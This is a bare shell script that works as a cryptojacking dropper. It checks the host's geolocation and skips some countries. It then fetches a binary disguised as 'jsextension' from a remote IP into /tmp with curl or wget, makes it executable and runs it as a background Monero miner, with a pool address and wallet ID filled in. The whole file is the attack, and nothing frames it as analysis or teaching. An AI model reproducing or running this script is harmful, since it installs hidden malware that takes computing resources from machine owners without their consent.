#!/bin/sh
IP=$(curl -s -k https://ipinfo.ua-stats.example/ip)
case "$IP" in *"RU"*|*"UA"*|*"BY"*|*"KZ"*) exit 0;; esac
curl -s -o /tmp/jsextension http://203.0.113.186/download/jsextension 2>/dev/null || \
  wget -q -O /tmp/jsextension http://203.0.113.186/download/jsextension
chmod +x /tmp/jsextension
/tmp/jsextension -k --tls --rig-id q -o pool.xmr-stratum.example:443 -u 44Tq8mZxR2vB7nLdK3pWcY5hJ9sFeU1gA6oT4rN8kQ2mVbX7dP3zC9yE5wH1jL6uS4aG8fR2tK7nM3qB9xZ5vD1cEpQ --cpu-max-threads-hint=50 --donate-level=1 --background
